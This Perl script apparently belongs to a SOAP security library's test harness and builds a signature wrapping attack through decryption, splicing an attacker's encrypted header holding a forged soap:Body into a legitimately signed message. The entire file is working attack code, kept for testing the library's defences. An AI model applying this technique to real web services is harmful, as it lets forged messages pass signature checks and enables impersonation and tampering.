#!/usr/bin/perl
# attack_wrap.pl SIGNED ATTACKER > OUT - the wrapping attack through
# decryption (SECURITY.md): ATTACKER is a message `domlab send
# --encrypt-header {SOAP}Body` made from an envelope whose header holds a
# soap:Body with the signed message's Body Id, encrypted for the same
# recipient with nothing but its certificate.  Its EncryptedKey (only
# the reference to that header's EncryptedData kept) goes last into
# SIGNED's Security header, its wsse11:EncryptedHeader first into
# SIGNED's soap:Header, their Ids renamed apart from SIGNED's.
# Not for: anything but harness/reports/attack.sh's requests.
use strict;
use warnings;

sub slurp { local $/; open my $f, '<', $_[0] or die "$_[0]: $!\n"; <$f> }
my ($signed, $attacker) = (slurp($ARGV[0]), slurp($ARGV[1]));
my ($eh) = $attacker =~ m{(<wsse11:EncryptedHeader\b.*?</wsse11:EncryptedHeader>)}s
	or die "no EncryptedHeader in $ARGV[1]\n";
my ($ed) = $eh =~ m{<xenc:EncryptedData\b[^>]*\bId="([^"]+)"}
	or die "no EncryptedData Id\n";
my ($ek) = $attacker =~ m{(<xenc:EncryptedKey\b.*?</xenc:EncryptedKey>)}s
	or die "no EncryptedKey in $ARGV[1]\n";
$ek =~ s{<xenc:DataReference URI="#(?!\Q$ed\E")[^"]*"/>}{}g;
for ($ek, $eh) {
	s{\b(Id|URI)="(#?)([^"]+)"}{$1="$2$3-m"}g;
}
# The header's wsu:Id needs its prefix where it now stands.
my $wsu = 'http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd';
$eh =~ s{^<wsse11:EncryptedHeader }{<wsse11:EncryptedHeader xmlns:wsu="$wsu" };
$signed =~ s{(</wsse:Security>)}{$ek$1}
	or die "no Security header in $ARGV[0]\n";
$signed =~ s{(<soap:Header>)}{$1$eh} or die "no soap:Header in $ARGV[0]\n";
print $signed;
